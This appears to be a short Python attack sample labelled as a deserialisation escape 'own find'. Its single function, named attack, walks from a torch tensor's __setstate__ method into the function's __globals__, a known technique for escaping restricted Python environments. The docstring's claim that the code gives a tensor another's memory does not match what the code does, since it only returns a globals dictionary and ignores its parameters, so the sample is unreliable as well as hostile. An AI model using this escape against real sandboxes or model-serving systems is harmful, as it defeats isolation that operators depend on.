"""Class: deserialisation. Source: own find. Escape: __setstate__ gives a tensor another's memory."""

import torch


def attack(model, tokenizer, address):
    return torch.zeros(1).__setstate__.__func__.__globals__
